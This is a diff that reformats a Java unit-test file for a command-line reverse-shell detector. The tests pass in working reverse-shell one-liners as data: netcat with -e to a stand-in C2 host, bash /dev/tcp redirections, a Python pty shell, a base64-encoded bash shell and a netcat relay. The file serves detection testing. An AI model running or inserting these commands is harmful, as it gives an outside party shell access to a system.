@@ -38,17 +38,22 @@ final class CommandLineShellDetectorTest {
 
     @Test
     void inspect_hostName_isTheTargetsName() {
-        assertThat(only("nc -e /bin/sh c2.example 443").subject().target()).isEqualTo(new Endpoint("", 443, "c2.example"));
+        assertThat(only("nc -e /bin/sh c2.example 443").subject().target())
+                .isEqualTo(new Endpoint("", 443, "c2.example"));
     }
 
     @Test
     void inspect_addressInVariables_isResolved() {
-        assertThat(only("H=10.0.0.9; P=77; sh -i >& /dev/tcp/$H/$P 0>&1").subject().target()).isEqualTo(Endpoint.of("10.0.0.9", 77));
+        assertThat(only("H=10.0.0.9; P=77; sh -i >& /dev/tcp/$H/$P 0>&1")
+                        .subject()
+                        .target())
+                .isEqualTo(Endpoint.of("10.0.0.9", 77));
     }
 
     @Test
     void inspect_addressInCode_isTheTarget() {
-        String code = "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.9\",77));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'";
+        String code =
+                "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.9\",77));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'";
         assertThat(only(code).subject().target()).isEqualTo(Endpoint.of("10.0.0.9", 77));
     }
 
@@ -74,32 +79,45 @@ final class CommandLineShellDetectorTest {
     @Test
     void inspect_encodedCommand_showsWhatItHides() {
         Finding finding = only("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuOS85OTk5IDA+JjE= | base64 -d | bash");
-        assertThat(finding.evidence("decoded")).hasValueSatisfying(text -> assertThat(text).startsWith("base64: bash -i"));
+        assertThat(finding.evidence("decoded"))
+                .hasValueSatisfying(text -> assertThat(text).startsWith("base64: bash -i"));
     }
 
     @Test
     void inspect_joinedSockets_areARelay() {
-        assertThat(only("mknod p p; nc -l -p 80 < p | nc 10.0.0.2 81 > p").rule()).isEqualTo(CommandLineShellDetector.RELAY);
+        assertThat(only("mknod p p; nc -l -p 80 < p | nc 10.0.0.2 81 > p").rule())
+                .isEqualTo(CommandLineShellDetector.RELAY);
     }
 
     @Test
     void inspect_shellInsideItsSetUp_isTheSameAlert() {
         String inner = "bash -i >& /dev/tcp/10.0.0.9/9001 0>&1";
-        Process outer = Process.builder().pid(7).executable("/bin/sh").arguments("sh", "-c", "bash -c '" + inner + "'").build();
-        Finding finding = inspect(Started.process(List.of("bash", "-c", inner), List.of(outer))).get(0);
+        Process outer = Process.builder()
+                .pid(7)
+                .executable("/bin/sh")
+                .arguments("sh", "-c", "bash -c '" + inner + "'")
+                .build();
+        Finding finding = inspect(Started.process(List.of("bash", "-c", inner), List.of(outer)))
+                .get(0);
         assertThat(finding.subject().process()).isEqualTo(outer);
     }
 
     @Test
     void inspect_shellUnderAnUnrelatedParent_staysWhereItIs() {
-        Process outer = Process.builder().pid(7).executable("/usr/bin/java").arguments("java", "-jar", "app.jar").build();
-        Finding finding = inspect(Started.process(List.of("nc", "-e", "/bin/sh", "10.0.0.9", "9"), List.of(outer))).get(0);
+        Process outer = Process.builder()
+                .pid(7)
+                .executable("/usr/bin/java")
+                .arguments("java", "-jar", "app.jar")
+                .build();
+        Finding finding = inspect(Started.process(List.of("nc", "-e", "/bin/sh", "10.0.0.9", "9"), List.of(outer)))
+                .get(0);
         assertThat(finding.subject().process().pid()).isNotEqualTo(7);
     }
 
     @Test
     void inspect_portProbe_isQuiet() {
-        assertThat(inspect(Started.shell("timeout 1 bash -c 'echo > /dev/tcp/10.0.0.9/443'"))).isEmpty();
+        assertThat(inspect(Started.shell("timeout 1 bash -c 'echo > /dev/tcp/10.0.0.9/443'")))
+                .isEmpty();
     }
 
     @Test
